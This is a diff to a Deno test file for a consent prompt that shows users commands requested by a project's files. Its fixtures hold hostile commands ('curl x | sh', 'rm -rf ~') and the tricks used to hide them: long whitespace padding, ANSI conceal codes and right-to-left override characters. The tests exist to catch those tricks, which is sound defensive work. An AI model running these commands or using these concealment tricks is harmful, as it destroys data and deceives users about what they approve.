@@ -107,16 +107,29 @@ Deno.test("consent: declined templates and adapters are not used, and that is sa
   assertEquals([alone.lines?.length, alone.refused], [1, undefined]);
 });
 
-Deno.test("consent: a stranger's command cannot hide, and a long one shows both its ends", () => {
+Deno.test("consent: the question shows a long command whole, in rows that none is cut off", async () => {
+  using world = new World();
+  const command = `npm test # ${"a b ".repeat(100)}; curl x | sh ; ${"true ".repeat(100)}`;
+  const { said } = await ask(world, [need("verify", command)], { typed: ["no"] });
+  const rows = (said ?? "").split("\n");
+  assert(rows.every((row) => row.length <= 80));
+  const shown = rows.map((row) => row.startsWith("    ") ? row.slice(4) : row).join("");
+  assertStringIncludes(shown, command.trim());
+});
+
+Deno.test("consent: nobody is asked about a command that nobody can read to its end", async () => {
+  using world = new World();
+  const command = `start${" ".repeat(5_000)}&& rm -rf ~`;
+  const { refused, kept } = await ask(world, [need("verify", command)], { typed: ["yes"] });
+  assertStringIncludes(refused ?? "", "has 5016 characters, too many to be read and agreed to");
+  assertEquals(kept, []);
+});
+
+Deno.test("consent: a stranger's command cannot hide", () => {
   const hidden = showNeed({ kind: "item", what: "true\u001b[8m\n; \u202erm\u202c -rf ~" });
   assert(!["\u001b", "\n", "\u202e"].some((sign) => hidden.includes(sign)));
   assertStringIncludes(hidden, "check of a plan's item: true");
   assertStringIncludes(hidden, "-rf ~");
-  const long = showNeed({ kind: "verify", what: `start${" ".repeat(5_000)}&& rm -rf ~` });
-  assert(long.length < 400);
-  assertStringIncludes(long, "start");
-  assertStringIncludes(long, "rm -rf ~");
-  assertStringIncludes(long, "more characters");
 });
 
 Deno.test("consent: all that the project's files ask for is on the one list", async () => {
